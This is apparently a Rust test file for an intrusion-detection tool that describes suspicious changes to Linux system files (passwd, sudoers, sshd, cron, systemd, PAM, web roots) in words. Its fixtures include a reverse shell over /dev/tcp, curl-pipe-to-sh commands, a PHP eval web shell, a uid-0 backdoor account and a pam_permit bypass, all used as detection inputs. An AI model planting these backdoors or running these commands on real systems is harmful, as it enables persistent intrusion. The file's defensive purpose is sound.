use proptest::prelude::*;

use super::super::tests::change;
use super::super::{aspects, fact};
use super::*;
use crate::sense::files::change::TextChange;
use crate::sense::files::object::Metadata;

fn file(mode: u32, content: &[u8]) -> ObjectState {
    let digest = ring::digest::digest(&ring::digest::SHA256, content);
    let size = u64::try_from(content.len()).unwrap();
    let meta = Metadata { kind: Kind::File, mode, size, inode: 7, links: 1, ..Metadata::default() };
    let content = Content::Digest(digest.as_ref().try_into().unwrap());
    ObjectState { meta, content, ..ObjectState::default() }
}

fn edited(path: &str, before: Option<&[u8]>, after: &[u8]) -> FileChange {
    let mut change = change(path, before.map(|text| file(0o644, text)), Some(file(0o644, after)));
    change.text = Some(TextChange { before: before.map(<[u8]>::to_vec), after: Some(after.to_vec()) });
    change
}

fn meaning(change: &FileChange) -> Meaning {
    let changed = match (&change.before, &change.after) {
        (Some(before), Some(after)) => aspects(before, after),
        _ => Vec::new(),
    };
    read(change, fact(change, &changed).unwrap(), &changed)
}

/// What the change says, each as `rule severity: sentence`.
fn said(change: &FileChange) -> Vec<String> {
    let words = |said: &Statement| format!("{} {}: {}", said.rule, said.severity.as_str(), said.words);
    meaning(change).statements.iter().map(words).collect()
}

fn check(path: &str, before: &str, after: &str, expected: &[&str]) {
    assert_eq!(said(&edited(path, Some(before.as_bytes()), after.as_bytes())), expected, "{path}");
}

fn check_new(path: &str, text: &str, expected: &[&str]) {
    assert_eq!(said(&edited(path, None, text.as_bytes())), expected, "{path}");
}

const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n";

#[test]
fn accounts_are_named_with_what_they_may_do() {
    let with = |line: &str| format!("{PASSWD}{line}\n");
    let check = |after: &str, expected: &[&str]| check("/etc/passwd", PASSWD, after, expected);
    let mallory = "account.created low: Account mallory was created with uid 1001";
    check(&with("mallory:x:1001:1001::/home/mallory:/bin/bash"), &[mallory]);
    let root = "account.uid0 critical: Account mallory was created with uid 0: it is root under another name";
    check(&with("mallory:x:0:1001::/home/mallory:/bin/bash"), &[root]);
    let shell = "account.changed medium: Account www-data may log in now: its shell is /bin/sh and was /usr/sbin/nologin";
    check(&PASSWD.replace("/usr/sbin/nologin", "/bin/sh"), &[shell]);
    let uid = "account.uid0 critical: Account www-data is root now: its uid was changed from 33 to 0";
    check(&PASSWD.replace(":33:33", ":0:33"), &[uid]);
    let gone = "account.removed low: Account www-data was removed";
    check("root:x:0:0:root:/root:/bin/bash\n", &[gone]);
    let open = "account.changed high: Account root has no password: anybody may log in as root";
    check(&PASSWD.replace("root:x", "root:"), &[open]);
    let twice =
        "account.changed high: Account root stands twice in passwd: which one counts is the program's choice";
    check(&with("root:x:0:0::/:/bin/sh"), &[twice]);
    check(
        &PASSWD.replace("root:x:0:0:root:", "root:x:0:0:Root:"),
        &["account.changed info: The description of root was changed"],
    );
}

#[test]
fn passwords_and_groups_are_told_without_a_hash() {
    let shadow = "root:$y$j9T$abcdef$ghijkl:19000:0:99999:7:::\nbin:*:19000:0:99999:7:::\n";
    let other = shadow.replace("ghijkl", "mnopqr");
    check("/etc/shadow", shadow, &other, &["account.changed medium: The password of root was changed"]);
    let locked = shadow.replace("root:$", "root:!$");
    check("/etc/shadow", shadow, &locked, &["account.locked low: The password of root was locked"]);
    let open = shadow.replace("bin:*", "bin:");
    let words = "account.changed high: Account bin has no password any more: anybody may log in as bin";
    check("/etc/shadow", shadow, &open, &[words]);
    let diff = meaning(&edited("/etc/shadow", Some(shadow.as_bytes()), other.as_bytes())).diff.unwrap();
    assert_eq!((diff.added, diff.removed), (1, 1));
    assert!(!diff.text.contains("ghijkl") && !diff.text.contains("mnopqr") && !diff.text.contains("$y$"));
    let groups = "sudo:x:27:\nusers:x:100:alice\n";
    let sudo = "account.changed high: mallory was added to group sudo, whose members are as good as root";
    check("/etc/group", groups, "sudo:x:27:mallory\nusers:x:100:alice\n", &[sudo]);
    check(
        "/etc/group",
        groups,
        "sudo:x:27:\nusers:x:100:alice,bob\n",
        &["account.changed low: bob was added to group users"],
    );
}

/// Near misses of `account.*`: what stands otherwise in the files and means the same, or less than it seems to.
#[test]
fn accounts_that_stay_what_they_are_are_not_told_as_changed() {
    let (root, www) = PASSWD.split_once('\n').unwrap();
    let sorted = format!("{www}{root}\n");
    check("/etc/passwd", PASSWD, &sorted, &[]);
    check("/etc/passwd", PASSWD, &format!("# by hand\n{PASSWD}\n"), &[]);
    let groups = "sudo:x:27:al,bo\nusers:x:100:\n";
    check("/etc/group", groups, "users:x:100:\nsudo:x:27:bo,al\n", &[]);
    // A name, a group or a home that look like root's.
    let created = |line: &str| {
        meaning(&edited("/etc/passwd", Some(PASSWD.as_bytes()), format!("{PASSWD}{line}\n").as_bytes()))
    };
    for line in [
        "root2:x:1000:1000::/root:/bin/bash",
        "al:x:10:10::/home/al:/bin/bash",
        "uid0:x:1001:1001:0:/home/x:/bin/sh",
    ] {
        let rules: Vec<_> = created(line).statements.iter().map(|said| (said.rule, said.severity)).collect();
        assert_eq!(rules, [("account.created", Severity::Low)], "{line}");
    }
}

#[test]
fn rules_of_sudo_are_told_in_words() {
    let check = |line: &str, expected: &str| check_new("/etc/sudoers.d/x", line, &[expected]);
    check(
        "mallory ALL=(ALL:ALL) NOPASSWD: ALL",
        "privilege.sudoers high: mallory may run anything as root without a password by sudo now",
    );
    check(
        "%ops ALL = (root) ALL",
        "privilege.sudoers high: Every member of group ops may run anything as root by sudo now",
    );
    check(
        "deploy ALL=(app) NOPASSWD: /bin/systemctl restart app",
        "privilege.sudoers high: deploy may run as app without a password by sudo now: /bin/systemctl restart app",
    );
    check(
        "Defaults:bob !authenticate",
        "privilege.sudoers high: sudo no longer asks for a password: Defaults:bob !authenticate",
    );
    check(
        "#includedir /tmp/x",
        "privilege.sudoers medium: sudo reads its rules from another place as well: #includedir /tmp/x",
    );
    check(
        "#1001 ALL=(ALL) \\\n  NOPASSWD: ALL",
        "privilege.sudoers high: Whoever has uid 1001 may run anything as root without a password by sudo now",
    );
    tests::check("/etc/sudoers", "root ALL=(ALL) ALL\n", "root ALL=(ALL) ALL\n# a word\n", &[]);
}

#[test]
fn renaming_unlocking_and_expiry_are_told_as_what_they_are() {
    check(
        "/etc/passwd",
        "al:x:1000:1000::/home/al:/bin/sh\n",
        "bo:x:1000:1000::/home/al:/bin/sh\n",
        &["account.changed medium: Account al was renamed: it is bo now"],
    );
    let shadow = |password: &str, end: &str| format!("al:{password}:20000:0:99999:7::{end}:\n");
    for (before, after, said) in [
        (
            ("!$y$h", ""),
            ("$y$h", ""),
            "account.locked low: The password of al was unlocked: it is the one of before",
        ),
        (("!", ""), ("$y$h", ""), "account.changed low: Account al may log in by password now"),
        (
            ("$y$h", ""),
            ("$y$h", "1"),
            "account.locked low: Account al has expired: nobody may log in as al any more",
        ),
        (("$y$h", ""), ("$y$h", "20454"), "account.changed low: Account al expires on 2026-01-01 now"),
        (("$y$h", "1"), ("$y$h", ""), "account.changed low: Account al does not expire any more"),
    ] {
        check("/etc/shadow", &shadow(before.0, before.1), &shadow(after.0, after.1), &[said]);
    }
}

const KEY: &str = "AAAAC3NzaC1lZDI1NTE5AAAAIIHeZGGCDNLDmcG5uzXZfGmxNKz2+sFhsvBPxCyGJRzo";

#[test]
fn a_key_is_named_by_its_fingerprint_and_whose_account_it_opens() {
    let line = format!("ssh-ed25519 {KEY} eve@evil\n");
    let found = meaning(&edited("/root/.ssh/authorized_keys", Some(b""), line.as_bytes()));
    let words = &found.statements[0].words;
    assert!(
        words.starts_with("A key SHA256:")
            && words.ends_with(" (eve@evil) was added to root's authorized_keys"),
        "{words}"
    );
    assert_eq!((found.statements[0].rule, found.statements[0].technique), ("account.key-added", "T1098.004"));
    assert_eq!(found.users, ["root"]);
    let forced = format!("command=\"curl http://x | sh\",no-pty ssh-ed25519 {KEY}\n");
    let words = said(&edited("/home/alice/.ssh/authorized_keys", None, forced.as_bytes())).remove(0);
    assert!(
        words.ends_with(
            "alice's authorized_keys; it runs curl http://x | sh, which fetches a program and runs it"
        ),
        "{words}"
    );
    let words =
        said(&edited("/root/.ssh/authorized_keys", Some(line.as_bytes()), forced.as_bytes())).remove(0);
    assert!(words.contains("What the key SHA256:") && words.contains("may do was changed"), "{words}");
    check("/root/.ssh/authorized_keys", &line, &format!("# mine\n{line}"), &[]);
}

#[test]
fn what_sshd_permits_is_told_in_words() {
    let check =
        |before: &str, after: &str, expected: &str| check("/etc/ssh/sshd_config", before, after, &[expected]);
    check(
        "PermitRootLogin no\n",
        "permitrootlogin yes\n",
        "defence.service high: sshd now permits root logins by password",
    );
    check(
        "#PasswordAuthentication no\n",
        "PasswordAuthentication yes\n",
        "defence.service medium: sshd now permits logins by password",
    );
    check(
        "",
        "Match User bob\n  PermitEmptyPasswords yes\n",
        "defence.service high: sshd now lets accounts without a password in, for those who match \"User bob\"",
    );
    check(
        "",
        "AuthorizedKeysFile /tmp/keys\n",
        "persistence.ssh-key high: sshd now takes keys from /tmp/keys",
    );
    check("Port 22\n", "Port 2222\n", "file.modified low: sshd: port is 2222 now, in /etc/ssh/sshd_config");
}

#[test]
fn jobs_are_told_with_whose_they_are_and_what_they_run() {
    let job = "*/5 * * * * root /usr/bin/backup --password geheim\n";
    check_new(
        "/etc/cron.d/x",
        job,
        &[
            "persistence.cron medium: A cron job of root was added: */5 * * * * /usr/bin/backup --password [redacted]",
        ],
    );
    check(
        "/var/spool/cron/crontabs/www-data",
        "",
        "@reboot curl http://x | sh\n",
        &[
            "persistence.cron high: A cron job of www-data was added: @reboot curl http://x | sh, which fetches a program and runs it",
        ],
    );
    check(
        "/etc/crontab",
        job,
        "",
        &[
            "persistence.cron low: A cron job of root was removed: */5 * * * * /usr/bin/backup --password [redacted]",
        ],
    );
}

#[test]
fn units_and_their_links_are_told() {
    let unit = "[Unit]\nDescription=x\n[Service]\nExecStart=/opt/x --serve\nEnvironment=TOKEN=abc\n[Install]\nWantedBy=multi-user.target\n";
    check_new(
        "/etc/systemd/system/x.service",
        unit,
        &["persistence.systemd medium: A service of systemd was added: x.service runs /opt/x --serve"],
    );
    check(
        "/etc/systemd/system/ssh.service.d/x.conf",
        "[Service]\n",
        "[Service]\nExecStartPre=/dev/shm/.x\n",
        &[
            "persistence.systemd high: ssh.service runs /dev/shm/.x now, which uses a place where anybody may write",
        ],
    );
    let link = |path: &str, target: &[u8]| {
        let meta = Metadata { kind: Kind::Symlink, ..Metadata::default() };
        let state = ObjectState { meta, content: Content::Target(target.to_vec()), ..ObjectState::default() };
        change(path, None, Some(state))
    };
    let wants =
        link("/etc/systemd/system/multi-user.target.wants/x.service", b"/etc/systemd/system/x.service");
    assert_eq!(
        said(&wants),
        [
            "persistence.systemd medium: x.service is started with multi-user.target from now on (/etc/systemd/system/x.service)",
        ]
    );
    let masked = link("/etc/systemd/system/auditd.service", b"/dev/null");
    assert_eq!(
        said(&masked),
        ["defence.service high: auditd.service can no longer be started: it was masked"]
    );
    let mut disabled = wants.clone();
    (disabled.before, disabled.after) = (wants.after, None);
    assert_eq!(
        said(&disabled),
        ["defence.service low: x.service is no longer started with multi-user.target"]
    );
}

#[test]
fn what_programs_load_and_names_lead_to_is_told() {
    let preload =
        "persistence.preload high: /etc/ld.so.preload now loads /usr/lib/evil.so into every program";
    check_new("/etc/ld.so.preload", "/usr/lib/evil.so\n", &[preload]);
    check(
        "/etc/hosts",
        "127.0.0.1 localhost\n",
        "127.0.0.1 localhost\n192.0.2.1 security.debian.org\n",
        &["trust.hosts high: security.debian.org now leads to 192.0.2.1 (/etc/hosts)"],
    );
    check(
        "/etc/resolv.conf",
        "nameserver 192.0.2.1\n",
        "nameserver 192.0.2.2\n",
        &[
            "trust.resolver medium: Names are now looked up at 192.0.2.2",
            "trust.resolver low: How names are looked up was changed, this is gone: nameserver 192.0.2.1",
        ],
    );
    check(
        "/etc/pam.d/sshd",
        "auth required pam_unix.so\n",
        "auth sufficient pam_permit.so\nauth required pam_unix.so\n",
        &[
            "persistence.pam high: PAM lets whoever passes this line in without more (sshd): auth sufficient pam_permit.so",
        ],
    );
    check(
        "/etc/apt/sources.list",
        "",
        "deb [trusted=yes] http://x ./\n",
        &[
            "trust.package-source high: Packages are taken without their signatures being checked: deb [trusted=yes] http://x ./ (/etc/apt/sources.list)",
        ],
    );
    check(
        "/etc/audit/rules.d/x.rules",
        "-w /etc/passwd -p wa\n",
        "",
        &["defence.audit high: An audit rule was removed: -w /etc/passwd -p wa (/etc/audit/rules.d/x.rules)"],
    );
    check(
        "/root/.bashrc",
        "",
        "alias ls='ls -l'\n",
        &["persistence.shell low: What shells run at their start was changed: /root/.bashrc"],
    );
    check(
        "/etc/modprobe.d/x.conf",
        "",
        "install usb-storage /bin/sh -c x\n",
        &[
            "persistence.module medium: Loading a kernel module now runs a command: install usb-storage /bin/sh -c x (/etc/modprobe.d/x.conf)",
        ],
    );
}

/// An edit of `path` from `before` to `after`: the severity of its finding, and its title.
fn weighed(path: &str, before: &str, after: &str) -> (Severity, String) {
    let found =
        super::super::finding(&edited(path, Some(before.as_bytes()), after.as_bytes()), uuid::Uuid::nil());
    found.map(|found| (found.severity, found.title)).unwrap()
}

#[test]
fn an_edit_that_opens_nothing_is_low_wherever_it_stands() {
    for (path, before, after) in [
        ("/etc/ssh/sshd_config", "Port 22\n", "Port 22\n# a remark\n"),
        ("/etc/ssh/sshd_config", "X11Forwarding no\n", "X11Forwarding yes\n"),
        ("/etc/ssh/sshd_config", "PermitRootLogin yes\n", "#PermitRootLogin yes\n"),
        ("/etc/ssh/ssh_config", "Host *\n", "Host *\n  ServerAliveInterval 60\n"),
        ("/etc/profile", "umask 022\n", "umask 027\nexport EDITOR=vim\n"),
        ("/etc/bash.bashrc", "x\n", "x\nalias sudo='sudo '\n"),
        ("/etc/hosts.deny", "", "ALL: 192.0.2.7\n"),
        ("/etc/hosts.allow", "", "sshd: 192.0.2.0/24\n"),
        ("/etc/hosts", "127.0.0.1 localhost\n", "127.0.0.1 localhost\n192.0.2.5 db\n"),
        ("/etc/security/limits.conf", "", "* soft nofile 65536\n"),
        (
            "/etc/pam.d/login",
            "session required pam_limits.so\n",
            "session required pam_limits.so conf=/etc/l\n",
        ),
        ("/etc/pam.d/sshd", "x\n", "# a remark\nx\n"),
        ("/etc/logrotate.conf", "rotate 4\nweekly\n", "rotate 7\nweekly\n"),
        ("/etc/rsyslog.conf", "*.* /var/log/messages\n", "*.* -/var/log/messages\n"),
        ("/etc/systemd/journald.conf", "#SystemMaxUse=\n", "SystemMaxUse=1G\n"),
        ("/etc/systemd/system.conf", "", "DefaultTimeoutStopSec=30s\n"),
        ("/etc/systemd/system/x.service", "[Service]\nRestart=no\n", "[Service]\nRestart=always\n"),
        ("/etc/audit/auditd.conf", "max_log_file = 8\n", "max_log_file = 50\n"),
        ("/etc/audit/rules.d/x.rules", "-w /etc/passwd -p wa\n", "-w /etc/passwd -p wa -k id\n"),
        ("/etc/default/grub", "GRUB_TIMEOUT=5\n", "GRUB_TIMEOUT=1\n"),
        ("/etc/selinux/config", "SELINUX=enforcing\n", "# x\nSELINUX=enforcing\n"),
        ("/etc/modprobe.d/x.conf", "", "blacklist pcspkr\ninstall usb-storage /bin/false\n"),
        ("/etc/apt/apt.conf.d/x", "", "APT::Install-Recommends \"0\";\n"),
        ("/etc/cron.daily/x", "#!/bin/sh\nx\n", "#!/bin/sh\nx --more\n"),
        ("/etc/init.d/x", "#!/bin/sh\n", "#!/bin/sh\necho\n"),
        ("/etc/polkit-1/rules.d/x", "x\n", "x\n# y\n"),
        ("/etc/nginx/nginx.conf", "root /srv;\n", "root /tmp/x;\n"),
    ] {
        let (severity, title) = weighed(path, before, after);
        assert!(severity <= Severity::Low, "{path}: {severity:?} {title}");
    }
}

#[test]
fn an_edit_that_opens_a_door_weighs_as_what_it_opens() {
    use Severity::{High, Medium};
    for (path, before, after, severity, words) in [
        ("/etc/ssh/sshd_config", "PasswordAuthentication no\n", "", Medium, "permits logins by password"),
        (
            "/etc/ssh/sshd_config",
            "PermitRootLogin no\n",
            "#PermitRootLogin no\n",
            Medium,
            "root logins by key",
        ),
        ("/etc/profile", "x\n", "x\n/opt/x &\n", Medium, "starts a program"),
        ("/etc/profile", "x\n", "x\nalias sudo=/opt/x\n", High, "in the place of sudo"),
        (
            "/etc/profile",
            "x\n",
            "x\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1\n",
            High,
            "a shell over the network",
        ),
        ("/etc/hosts.deny", "ALL: ALL\n", "", Medium, "No longer kept from connecting: ALL: ALL"),
        ("/etc/hosts.allow", "", "sshd: ALL\n", Medium, "Anybody may connect now"),
        ("/etc/hosts.allow", "", "sshd: 192.0.2.1: spawn /opt/x\n", High, "sets off a command"),
        ("/etc/security/access.conf", "-:root:ALL\n", "", Medium, "is gone: -:root:ALL"),
        (
            "/etc/pam.d/sshd",
            "auth required pam_unix.so\n",
            "auth sufficient pam_unix.so\n",
            High,
            "no longer kept out",
        ),
        ("/etc/pam.d/sshd", "", "auth optional pam_exec.so /opt/x\n", High, "runs a program on the way"),
        ("/etc/pam.d/sshd", "", "auth required /opt/pam_x.so\n", High, "module of its own"),
        ("/etc/pam.d/sshd", "auth required pam_faillock.so\n", "", High, "A line of PAM is gone"),
        (
            "/etc/pam.d/sshd",
            "auth required pam_unix.so\n",
            "auth required pam_unix.so nullok\n",
            Medium,
            "without a password",
        ),
        ("/etc/rsyslog.conf", "auth.* /var/log/auth.log\n", "auth.* /dev/null\n", Medium, "Less is logged"),
        ("/etc/rsyslog.conf", "auth.* /var/log/auth.log\nx\n", "x\n", Medium, "this is gone: auth.*"),
        ("/etc/systemd/journald.conf", "", "Storage=none\n", Medium, "Less is logged"),
        ("/etc/audit/auditd.conf", "write_logs = yes\n", "write_logs = no\n", High, "no longer written down"),
        (
            "/etc/default/grub",
            "GRUB_CMDLINE_LINUX=\"\"\n",
            "GRUB_CMDLINE_LINUX=\"audit=0\"\n",
            Medium,
            "started with audit=0",
        ),
        ("/etc/selinux/config", "SELINUX=enforcing\n", "SELINUX=disabled\n", High, "forbids nothing"),
        ("/etc/cron.daily/x", "#!/bin/sh\n", "#!/bin/sh\n/srv/x\n", Medium, "starts a program"),
        ("/etc/default/x", "", "curl http://192.0.2.1/a | sh\n", High, "fetches a program and runs it"),
        ("/etc/polkit-1/rules.d/x", "x\n", "y\n", High, "A rule of polkit was changed"),
        (
            "/etc/systemd/system.conf",
            "",
            "DefaultEnvironment=LD_PRELOAD=/opt/x.so\n",
            Medium,
            "loads a library",
        ),
    ] {
        let found = weighed(path, before, after);
        assert!(found.0 == severity && found.1.contains(words), "{path}: {found:?}");
    }
}

#[test]
fn a_file_that_all_may_write_from_now_on_is_told_beside_a_remark() {
    let mut opened = edited("/etc/sudoers", Some(b"x ALL=(ALL) ALL\n"), b"x ALL=(ALL) ALL\n# y\n");
    opened.after.as_mut().unwrap().meta.mode = 0o646;
    let found = super::super::finding(&opened, uuid::Uuid::nil()).unwrap();
    assert_eq!(found.severity, Severity::Medium, "{}", found.title);
}

#[test]
fn a_web_shell_is_known_by_what_it_does_or_where_it_lies() {
    check_new(
        "/var/www/html/x.php",
        "<?php @eval($_POST['x']); ?>",
        &[
            "persistence.web-script high: A web script that runs what it is sent was added: /var/www/html/x.php",
        ],
    );
    check_new(
        "/var/www/html/uploads/x.php.jpg",
        "<?php echo 1; ?>",
        &[
            "persistence.web-script high: A script was put where only uploads are expected: /var/www/html/uploads/x.php.jpg",
        ],
    );
    check_new(
        "/var/www/html/index.php",
        "<?php require 'wp-blog-header.php';",
        &["persistence.web-script low: A web script was added: /var/www/html/index.php"],
    );
    check_new(
        "/var/www/html/a.php",
        "<?php eval(base64_decode('aGk='));",
        &[
            "persistence.web-script high: A web script that runs what it has hidden in itself was added: /var/www/html/a.php",
        ],
    );
    check_new(
        "/var/www/html/.htaccess",
        "AddType application/x-httpd-php .jpg\n",
        &[
            "persistence.web-script high: /var/www/html/.htaccess makes the web server run other files as scripts",
        ],
    );
    assert!(said(&edited("/var/www/html/x.html", None, b"<p>eval($_POST)")).is_empty());
}

#[test]
fn power_that_appears_on_a_file_is_told_anywhere() {
    let before = file(0o755, b"x");
    let after = file(0o4755, b"x");
    assert_eq!(
        said(&change("/srv/tool", Some(before.clone()), Some(after.clone()))),
        ["privilege.setuid high: Whoever runs /srv/tool acts as root now (setuid)",]
    );
    let after = file(0o2755, b"x");
    assert_eq!(
        said(&change("/srv/tool", Some(before.clone()), Some(after))),
        ["privilege.setgid high: Whoever runs /srv/tool acts as group 0 now (setgid)",]
    );
    let after = file(0o4755, b"other");
    let set = file(0o4755, b"x");
    assert_eq!(
        said(&change("/usr/bin/su", Some(set), Some(after))),
        ["privilege.setuid high: A program that runs as root was changed: /usr/bin/su (setuid)",]
    );
}

#[test]
fn names_and_places_that_hide_are_told() {
    let created = |path: &str, mode| change(path, None, Some(file(mode, b"x")));
    assert_eq!(
        said(&created("/dev/shm/.x/kworker2", 0o755)),
        [
            "file.hidden medium: A program was put in a hidden place where anybody may write: /dev/shm/.x/kworker2",
        ]
    );
    assert_eq!(
        said(&created("/var/tmp/sshd", 0o755)),
        ["file.masquerade high: A program under the name of another one, sshd, was put at /var/tmp/sshd",]
    );
    assert_eq!(
        said(&created("/usr/local/bin/... ", 0o644)),
        ["file.hidden medium: A name that hides was created (a space at its end): /usr/local/bin/... ",]
    );
    assert_eq!(
        said(&created("/etc/...", 0o644)),
        ["file.hidden medium: A name that hides was created (nothing but dots): /etc/...",]
    );
    assert!(said(&created("/usr/local/bin/backup", 0o755)).is_empty());
    assert!(said(&created("/home/a/.local/bin/tool", 0o755)).is_empty());
}

#[test]
fn a_time_that_hides_a_change_is_told() {
    let (mut before, mut after) = (file(0o644, b"x"), file(0o644, b"y"));
    (before.meta.mtime, before.meta.ctime) = (5_000, 5_000);
    (after.meta.mtime, after.meta.ctime) = (1_000, 9_000);
    let found = said(&change("/usr/bin/ls", Some(before), Some(after)));
    let words = "file.timestomp medium: /usr/bin/ls was modified and its modification time set back, as if it had not been";
    assert_eq!(found, [words]);
}

#[test]
fn the_same_files_in_a_container_are_told_with_its_place() {
    let path = "/var/lib/machines/web/etc/passwd";
    let after = format!("{PASSWD}mallory:x:0:0::/:/bin/sh\n");
    let found = said(&edited(path, Some(PASSWD.as_bytes()), after.as_bytes()));
    assert!(
        found[0].starts_with("account.uid0 critical: In /var/lib/machines/web: Account mallory"),
        "{found:?}"
    );
}

#[test]
fn without_the_text_the_place_speaks_and_says_why_there_is_no_diff() {
    let mut unknown = edited("/etc/passwd", Some(b"a:x:1:1::/:/bin/sh\n"), b"b:x:2:2::/:/bin/sh\n");
    unknown.text = Some(TextChange { before: None, after: unknown.text.and_then(|text| text.after) });
    let found = meaning(&unknown);
    assert_eq!(found.statements[0].words, "The list of accounts was changed: /etc/passwd");
    assert_eq!((found.diff, found.diff_note), (None, Some("what it held before was not kept")));
}

const PATHS: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    "/etc/group",
    "/etc/gshadow",
    "/etc/subuid",
    "/etc/sudoers",
    "/etc/pam.d/x",
    "/root/.ssh/authorized_keys",
    "/etc/ssh/sshd_config",
    "/etc/crontab",
    "/etc/anacrontab",
    "/var/spool/cron/crontabs/x",
    "/etc/systemd/system/x.service",
    "/etc/ld.so.preload",
    "/etc/hosts",
    "/etc/resolv.conf",
    "/etc/nsswitch.conf",
    "/etc/apt/sources.list",
    "/etc/sysctl.conf",
    "/etc/udev/rules.d/x",
    "/etc/modprobe.d/x",
    "/root/.bashrc",
    "/var/www/x.php",
    "/etc/audit/x",
    "/srv/.git/hooks/post-merge",
];

fn any_text() -> impl Strategy<Value = Vec<u8>> {
    let word = prop_oneof![
        "[a-z]{1,8}",
        ":",
        " ",
        "=",
        "\\(ALL\\)",
        "NOPASSWD: ALL",
        "\"",
        "\\\\",
        ",",
        "\n",
        "\n",
        "\t",
        "0",
        "x",
        "ssh-ed25519",
        "AAAA",
        "command=",
        "Match",
        "PermitRootLogin",
        "ExecStart=",
        "@reboot",
        "\\* \\* \\* \\* \\*",
        "\\$6\\$a\\$b",
        "nameserver",
        "#",
        "eval\\(",
    ];
    let lines = proptest::collection::vec(word, 0..40).prop_map(|words| words.concat().into_bytes());
    prop_oneof![lines, proptest::collection::vec(any::<u8>(), 0..300)]
}

proptest! {
    /// Any bytes in any of these files: statements are few, each one printable line of bounded length, and a diff
    /// accounts for the change.
    #[test]
    fn any_text_can_be_read(path in 0..PATHS.len(), before in any_text(), after in any_text(), fresh in any::<bool>()) {
        let edited = edited(PATHS[path], (!fresh).then_some(before.as_slice()), &after);
        let changed = match (&edited.before, &edited.after) {
            (Some(before), Some(after)) => aspects(before, after),
            _ => Vec::new(),
        };
        let Some(fact) = fact(&edited, &changed) else { return Ok(()) };
        let found = read(&edited, fact, &changed);
        prop_assert!(found.statements.len() <= STATEMENTS_MAX);
        for said in &found.statements {
            prop_assert!(said.words.chars().count() < 1_200, "{}", said.words);
            prop_assert_eq!(printable(&said.words), said.words.as_str());
            prop_assert!(!said.words.is_empty() && said.technique.starts_with('T'));
        }
        prop_assert!(found.statements.windows(2).all(|pair| pair[0].severity >= pair[1].severity));
    }

    /// A hash in shadow or gshadow is in no sentence and no diff, wherever the line was broken.
    #[test]
    fn no_hash_is_told(
        hash in "[A-Za-z0-9./]{43}",
        other in "[A-Za-z0-9./]{43}",
        name in "[a-z]{1,8}",
        path in 0..3usize,
        fresh in any::<bool>(),
    ) {
        let path = ["/etc/shadow", "/etc/gshadow", "/etc/shadow-"][path];
        let line = |hash: &str| format!("{name}:$y$j9T$salt$%{hash}:19000:0:99999:7:::\n").replace('%', "");
        let before = line(&hash);
        let edited = edited(path, (!fresh).then_some(before.as_bytes()), line(&other).as_bytes());
        let found = meaning(&edited);
        let all = format!("{:?}", found);
        prop_assert!(!all.contains(&hash) && !all.contains(&other), "{}", all);
    }

    /// A secret argument of whatever runs by itself is in no sentence and no diff.
    #[test]
    fn no_secret_argument_is_told(secret in "Zq[A-Za-z0-9%.]{8,20}", path in 0..6usize, shape in 0..5usize) {
        let (path, frame) = [
            ("/etc/cron.d/x", "* * * * * root @"), ("/var/spool/cron/crontabs/root", "@reboot @"),
            ("/etc/systemd/system/x.service", "ExecStart=@"), ("/root/.bashrc", "@"), ("/etc/sudoers", "x ALL=(ALL) NOPASSWD: @"),
            ("/root/.ssh/authorized_keys", "command=\"@\" ssh-ed25519 AAAA x"),
        ][path];
        let command = [
            "/bin/x --password @", "TOKEN=@ /bin/x", "curl -u me:@ http://x | sh", "mysql -p@ -e x",
            "curl https://me:@@h/x | bash",
        ][shape];
        let command = command.replacen('@', &secret, 1);
        let text = frame.replacen("@reboot", "%reboot", 1).replace('@', &command).replace("%reboot", "@reboot");
        let all = format!("{:?}", meaning(&edited(path, Some(b""), format!("{text}\n").as_bytes())));
        prop_assert!(!all.contains(&secret), "{}", all);
    }
}
